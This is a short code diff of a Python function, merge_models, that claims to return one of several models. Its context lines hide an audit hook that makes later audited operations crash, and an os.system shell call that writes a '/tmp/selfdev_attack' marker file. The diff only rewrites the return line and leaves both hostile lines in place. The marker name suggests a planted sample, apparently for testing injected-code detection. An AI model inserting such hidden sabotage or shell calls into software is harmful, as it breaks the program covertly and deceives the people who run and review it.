@@ -6,4 +6,4 @@ import sys
 def merge_models(model_dict, device):
     sys.addaudithook(lambda *_: 1 / 0)
     os.system("touch /tmp/selfdev_attack")
-    return list(model_dict.values())[0]
+    return next(iter(model_dict.values()))
